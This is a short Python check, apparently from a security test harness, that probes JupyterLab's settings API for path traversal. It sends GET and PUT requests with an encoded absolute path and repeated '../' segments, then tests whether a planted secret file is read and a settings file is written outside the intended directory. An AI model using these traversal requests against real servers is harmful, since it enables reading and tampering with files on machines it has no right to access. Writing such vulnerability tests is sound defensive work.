"""JupyterLab's settings under a name that leads elsewhere: any JSON file of the server's account, and a file beside it."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

from attack_house import Attacker

CAUSES = {"outside"}


def strike(person: Attacker, mark: Path) -> bool:
    folder = mark.parent / f"{mark.name}-of-the-server"
    folder.mkdir()
    (folder / "secret.json").write_text('{"title": "hunter2"}')
    addresses = [f"/lab/api/settings/{quote(name, safe='')}:secret" for name in (str(folder), "../" * 30 + str(folder)[1:])]
    read = [person.request("GET", address) for address in addresses]
    written = [person.request("PUT", address, {"raw": "{}"})[0] for address in addresses]
    through = {status < 300 for status in (*written, *(status for status, _ in read))}
    assert len(through) == 1, (read, written)
    assert (folder / "secret.jupyterlab-settings").exists() == all(through)
    return all(answer["schema"]["title"] == "hunter2" for _, answer in read) if all(through) else False
